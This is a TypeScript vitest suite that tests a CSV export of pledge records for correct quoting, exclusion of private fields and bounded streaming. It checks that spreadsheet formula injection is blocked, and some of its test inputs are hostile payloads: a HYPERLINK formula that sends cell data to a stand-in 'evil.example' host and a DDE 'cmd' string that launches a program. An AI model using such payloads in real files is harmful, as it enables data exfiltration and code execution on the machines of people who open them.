import { describe, expect, it } from 'vitest';
import { Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import type { PledgeRecord } from '../../src/pledges/index.js';
import { CSV_COLUMNS, csvField, csvRows, csvStream } from '../../src/stats/index.js';

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes. Throws on anything else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const field = (): string => {
    if (text[i] !== '"') {
      const start = i;
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
        i++;
      }
      return text.slice(start, i);
    }
    i++;
    let out = '';
    for (;;) {
      if (i >= text.length) throw new Error('unterminated quoted field');
      if (text[i] === '"') {
        if (text[i + 1] === '"') {
          out += '"';
          i += 2;
          continue;
        }
        i++;
        return out;
      }
      out += text[i++];
    }
  };
  while (i < text.length) {
    row.push(field());
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.slice(i, i + 2) !== '\r\n') throw new Error(`expected CRLF at ${i}`);
    i += 2;
    rows.push(row);
    row = [];
  }
  return rows;
}

function pledge(overrides: Partial<PledgeRecord> = {}): PledgeRecord {
  return {
    pledgeId: 1,
    guildId: '111111111111111111',
    userId: '300000000000000001',
    status: 'verified',
    level: 'strike',
    platform: 'ios',
    note: 'secret note, never exported',
    evidence: { sha256: 'a'.repeat(64), dhash: 'b'.repeat(16), width: 10, height: 10, format: 'png', bytes: 1, keptCopyKey: 'kept:1:2' },
    duplicateOf: [],
    createdAt: '2026-02-01T12:00:00.000Z',
    updatedAt: '2026-02-02T12:00:00.000Z',
    reviewedAt: '2026-02-02T12:00:00.000Z',
    reviewerId: '999999999999999999',
    version: 1,
    interactionId: 'ix1',
    ...overrides,
  };
}

async function* from<T>(items: Iterable<T>): AsyncGenerator<T> {
  for (const item of items) yield item;
}

async function collect(it: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const line of it) out += line;
  return out;
}

describe('csvField', () => {
  it('GIVEN commas, quotes, CR or LF THEN the field is quoted with doubled quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line1\nline2')).toBe('"line1\nline2"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField(null)).toBe('');
    expect(csvField(42)).toBe('42');
  });

  it('GIVEN a value starting with = + - @ tab or CR THEN it gets a leading apostrophe (no formula runs)', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+33')).toBe("'+33");
    expect(csvField('-2')).toBe("'-2");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\r=x')).toBe(`"'\r=x"`);
    expect(csvField('=HYPERLINK("http://evil.example","click")')).toBe(`"'=HYPERLINK(""http://evil.example"",""click"")"`);
    expect(csvField('a=b')).toBe('a=b');
  });
});

describe('csvRows', () => {
  it('GIVEN pledges THEN a header and one CRLF line each, with only the listed columns', async () => {
    const text = await collect(csvRows(from([pledge(), pledge({ pledgeId: 2, status: 'pending', reviewedAt: undefined, reviewerId: undefined })])));
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsv(text)).toEqual([
      [...CSV_COLUMNS],
      ['1', '300000000000000001', 'verified', 'ios', '2026-02-01T12:00:00.000Z', '2026-02-02T12:00:00.000Z', '999999999999999999', 'strike'],
      ['2', '300000000000000001', 'pending', 'ios', '2026-02-01T12:00:00.000Z', '', '', 'strike'],
    ]);
    expect(text).not.toMatch(/secret|aaaa|bbbb|kept:|png/);
  });

  it('GIVEN a pledge at each level and an old record without one THEN the level column says leave, strike or share (old: strike)', async () => {
    const { pledgeRecordSchema } = await import('../../src/pledges/index.js');
    const { level: _none, ...old } = pledge({ pledgeId: 4 });
    const records = [pledge({ level: 'leave' }), pledge({ pledgeId: 2, level: 'strike' }), pledge({ pledgeId: 3, level: 'share', evidence: null, reviewedAt: undefined, reviewerId: undefined }), pledgeRecordSchema.parse(old)];
    const rows = parseCsv(await collect(csvRows(from(records))));
    expect(rows.slice(1).map((r) => [r[0], r[2], r.at(-1)])).toEqual([
      ['1', 'verified', 'leave'],
      ['2', 'verified', 'strike'],
      ['3', 'verified', 'share'],
      ['4', 'verified', 'strike'],
    ]);
  });

  it('GIVEN hostile values in every text column THEN the file still parses to the same cells, each neutralized', async () => {
    const hostile = [
      'a,b',
      'quote " inside',
      'multi\r\nline',
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+cmd|\' /C calc\'!A0',
      '-1+1',
      '@SUM(1,2)',
      '\t=1',
      'lf\nonly',
    ];
    const records = hostile.map((h, i) =>
      pledge({ pledgeId: i + 1, userId: h, status: h as PledgeRecord['status'], platform: h as PledgeRecord['platform'], createdAt: h, reviewedAt: h, reviewerId: h, level: h as PledgeRecord['level'] }),
    );
    const rows = parseCsv(await collect(csvRows(from(records))));
    expect(rows).toHaveLength(hostile.length + 1);
    rows.slice(1).forEach((row, i) => {
      const h = hostile[i] ?? '';
      const expected = /^[=+\-@\t\r]/.test(h) ? `'${h}` : h;
      expect(row).toEqual([String(i + 1), expected, expected, expected, expected, expected, expected, expected]);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });

  it('GIVEN no pledges THEN only the header', async () => {
    expect(await collect(csvRows(from([])))).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });
});

describe('csvStream', () => {
  it('GIVEN 100,000 pledges THEN they stream in bounded chunks and parse back completely', async () => {
    let produced = 0;
    async function* many(): AsyncGenerator<PledgeRecord> {
      const base = pledge();
      for (let i = 1; i <= 100_000; i++) {
        produced = i;
        yield { ...base, pledgeId: i };
      }
    }
    const chunks: number[] = [];
    const parts: Buffer[] = [];
    await pipeline(
      csvStream(many(), { chunkBytes: 32 * 1024 }),
      new Writable({
        write(chunk: Buffer, _enc, done) {
          chunks.push(chunk.length);
          parts.push(chunk);
          done();
        },
      }),
    );
    expect(produced).toBe(100_000);
    expect(chunks.length).toBeGreaterThan(100);
    expect(Math.max(...chunks)).toBeLessThan(32 * 1024 + 200);
    const rows = parseCsv(Buffer.concat(parts).toString('utf8'));
    expect(rows).toHaveLength(100_001);
    expect(rows[100_000]?.[0]).toBe('100000');
  });

  it('GIVEN a consumer that stops early THEN the pledge source stops being read', async () => {
    let produced = 0;
    let closed = false;
    async function* endless(): AsyncGenerator<PledgeRecord> {
      try {
        for (let i = 1; ; i++) {
          produced = i;
          yield pledge({ pledgeId: i });
        }
      } finally {
        closed = true;
      }
    }
    const stream = csvStream(endless(), { chunkBytes: 1024 });
    for await (const chunk of stream) {
      expect(Buffer.isBuffer(chunk)).toBe(true);
      break;
    }
    await new Promise((r) => setImmediate(r));
    expect(closed).toBe(true);
    expect(produced).toBeLessThan(1000);
  });
});
